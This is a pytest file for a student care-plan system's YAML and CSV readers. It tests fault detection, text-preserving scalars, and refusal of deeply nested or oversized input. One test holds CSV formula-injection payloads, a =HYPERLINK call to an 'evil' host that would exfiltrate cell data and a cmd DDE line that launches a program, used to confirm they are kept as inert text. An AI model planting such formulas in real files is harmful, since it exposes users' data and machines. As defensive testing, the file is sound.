"""Each file of the corpus ends in acceptance, or in exactly the expected rules at exactly the expected places."""

import pytest

from careplan.store.reading.csv_table import CsvTable
from careplan.store.reading.decode import LIMIT
from careplan.store.reading.faults import MILD
from careplan.store.reading.walk import read_bytes
from careplan.store.reading.yaml_reader import read_yaml
from careplan.store.reading.yaml_tree import Value, YamlTree
from tests.store.reading.corpus import CORPUS, Expected, expected, read

CASES = list(expected())


def value_of(name: str) -> Value:
    """Return the value of a file of the corpus that is accepted."""
    tree, _ = read_yaml(name, (CORPUS / "yaml" / name).read_bytes())
    assert tree is not None
    return tree.value


@pytest.mark.parametrize("case", CASES, ids=lambda case: f"{case.case} {case.file}")
def test_corpus(case: Expected) -> None:
    """The faults are those expected, the file stays as it was, and a place is a place in the file."""
    path = CORPUS / case.file
    before = path.read_bytes()
    read_back, faults = read(case.file, before)
    found = {(fault.rule, fault.place.line, fault.place.column) for fault in faults}
    assert found == set(case.faults)
    assert {fault.place.file for fault in faults} <= {case.file}
    assert path.read_bytes() == before
    if case.file.startswith("yaml"):
        assert (read_back is None) == any(rule not in MILD for rule, _, _ in case.faults)


def test_every_file_is_expected() -> None:
    """No file of the corpus lies there unread."""
    files = {path.relative_to(CORPUS).as_posix() for path in CORPUS.glob("[yc]*/*") if path.is_file()}
    assert files == {case.file for case in CASES}


@pytest.mark.parametrize("name", ["good.yaml", "crlf.yaml", "cr_only.yaml", "bom_utf8.yaml"])
def test_line_ends_and_marks_change_nothing(name: str) -> None:
    """The same record with other line ends or a byte-order mark is the same record."""
    assert value_of(name) == {
        "id": "C0001",
        "name": "张小梅",
        "grade": "3",
        "id_number": "522121201503040029",
        "guardian_phone": "13985000001",
        "key": "true",
    }


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("norway.yaml", {"sex": "N", "consent": "no", "fed": "off", "name": "Yes", "week": "on", "y": "y"}),
        ("bad_date.yaml", {"id": "C1", "date": "2026-02-30"}),
        ("compact_date.yaml", {"id": "C1", "date": "20260203"}),
        (
            "short_date.yaml",
            {"id": "C1", "date": "2026-2-3", "d2": "2026-02-03", "d3": "2026-02-03 10:00:00"},
        ),
        ("nan_inf.yaml", {"score": ".nan", "max": ".inf", "x": "1e3", "y": "1.0e+3"}),
        ("str_for_map.yaml", {"id": "C1", "duties": "谈心一次", "family": ["爷爷"]}),
        ("unknown_key.yaml", {"id": "C1", "name": "张三", "guradian_phone": "13985000001"}),
        (
            "octal.yaml",
            {
                "class": "010",
                "school": "007",
                "room": "0o17",
                "x": "1_000",
                "t": "12:30:45",
                "t2": "22:30",
                "b": "0b11",
                "h": "0x1F",
                "v": "08",
            },
        ),
    ],
)
def test_scalars_stay_text(name: str, value: Value) -> None:
    """No scalar turns into a number, date or truth value; the schema judges the text."""
    assert value_of(name) == value


def test_mended_values() -> None:
    """Full-width digits and padding are read as they were meant, beside their fault."""
    assert value_of("fullwidth.yaml") == {"id": "C1", "id_number": "522121201503040029", "grade": "3"}
    assert value_of("trailing_ws.yaml") == {"id": "C1", "name": "张三", "note": "  x "}


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"[" * 100_000, id="Y02 deep flow"),
        pytest.param(b"{a: " * 100_000, id="Y02 deep flow maps"),
        pytest.param("".join(f"{' ' * n}k:\n" for n in range(1_300)).encode(), id="Y03 deep block"),
    ],
)
def test_depth_is_limited(data: bytes) -> None:
    """Thousands of levels are refused at the first that is too deep."""
    tree, faults = read_yaml("deep.yaml", data, root="any")
    assert tree is None
    assert [fault.rule for fault in faults] == ["nested-too-deep"]


@pytest.mark.parametrize("parser", ["c", "pure"])
def test_long_value(parser: str) -> None:
    """Y34: a value of hundreds of thousands of characters is refused with its place."""
    tree, faults = read_yaml("long.yaml", b"id: C1\nnote: " + b"x" * 900_000 + b"\n", parser=parser)  # type: ignore[arg-type]
    assert tree is None
    assert [(fault.rule, *fault.place) for fault in faults] == [("value-too-long", "long.yaml", 2, 7)]


def test_huge_file_is_refused_by_its_size(tmp_path_factory: pytest.TempPathFactory) -> None:
    """Y35: 100 MB are refused unread; a sparse file stands for them."""
    root = tmp_path_factory.mktemp("huge")
    with (root / "huge.yaml").open("wb") as sparse:
        sparse.truncate(100_000_000)
    found = read_bytes(str(root), "huge.yaml")
    assert not isinstance(found, bytes)
    assert found.rule == "unreadable-file"
    tree, faults = read_yaml("big.yaml", b"a" * (LIMIT + 1))
    assert tree is None
    assert [fault.rule for fault in faults] == ["unreadable-file"]


def rows_of(name: str) -> CsvTable:
    """Return the table in a file of the corpus."""
    table, _ = read(name, (CORPUS / "csv" / name).read_bytes())
    assert isinstance(table, CsvTable)
    return table


def test_good_rows_enter() -> None:
    """Rows beside a bad one are read, each with the line on which it begins."""
    assert [*rows_of("unclosed.csv").lines] == [*range(3, 503)]
    assert rows_of("nul.csv").lines == [2]
    assert rows_of("union_header.csv").lines == [2, 4]
    assert rows_of("quotes_nl.csv").lines == [2, 4]
    assert rows_of("quotes_nl.csv").rows[0][5] == '第一行\n第二行 "引号", 逗号'
    assert [*rows_of("cr_only.csv").lines] == [2, 3]
    assert rows_of("sci_id.csv").rows == []


def test_cells_are_kept_as_they_stand() -> None:
    """What looks like a formula is text (C16); what forces text or pads it is taken off (C14, C26)."""
    assert rows_of("formula.csv").rows == [
        ['=HYPERLINK("http://evil"&A1)', "@SUM(1)"],
        ["+cmd|' /C calc'!A0", "-2+3"],
        ["\t=1+1", "\n=1+1"],
        ["％=1", "＝1+1"],
    ]
    assert [row[1] for row in rows_of("apostrophe.csv").rows] == ["522121201503040029"] * 3
    assert [row[0] for row in rows_of("space_pad.csv").rows] == ["C1", "C2", "C3"]
    assert rows_of("bom.csv").header[0] == "date"
    assert [row[1] for row in rows_of("thousands.csv").rows] == ["1,024", "12"]


def test_tree_keeps_its_file() -> None:
    """A record knows the file it came from."""
    tree, _ = read_yaml("schools/S01/school.yaml", b"id: S01\n")
    assert isinstance(tree, YamlTree)
    assert tree.file == "schools/S01/school.yaml"
